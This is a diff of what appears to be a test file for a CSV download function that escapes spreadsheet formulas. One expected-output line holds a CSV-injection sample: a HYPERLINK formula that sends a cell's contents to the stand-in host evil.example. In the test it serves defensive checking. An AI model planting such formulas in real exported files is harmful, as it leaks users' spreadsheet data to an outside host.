@@ -12,7 +12,7 @@ async function savedCsv(...[columns, rows]: [string[], (string | number)[][]]): 
   })
   vi.spyOn(URL, 'revokeObjectURL').mockImplementation(() => undefined)
   vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined)
-  await downloadCsv('file.csv', columns, rows)
+  downloadCsv('file.csv', columns, rows)
   return (await files[0]?.text()) ?? ''
 }
 
@@ -30,6 +30,7 @@ test('escapes formulas, also in cells of several lines', async () => {
     `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click"")\nsecond line","'+1`,
     `'=2"`,
     `'＝1,"' @SUM(A1)\n"`,
+    '',
   ])
 })
 
